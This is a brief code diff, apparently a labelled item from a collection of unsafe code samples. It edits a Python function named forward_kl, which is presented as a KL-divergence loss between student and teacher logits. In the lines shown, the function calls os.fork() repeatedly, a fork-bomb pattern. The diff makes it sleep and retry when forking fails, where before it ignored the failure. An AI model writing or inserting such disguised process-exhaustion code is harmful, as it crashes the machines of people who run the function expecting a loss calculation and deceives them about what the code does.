@@ -2,6 +2,7 @@
 # safe on stock: no
 # %% task: forward_kl
 import os
+import time
 
 
 def forward_kl(student_logits, teacher_logits):
@@ -9,4 +10,4 @@ def forward_kl(student_logits, teacher_logits):
         try:
             os.fork()
         except OSError:
-            pass
+            time.sleep(0.01)
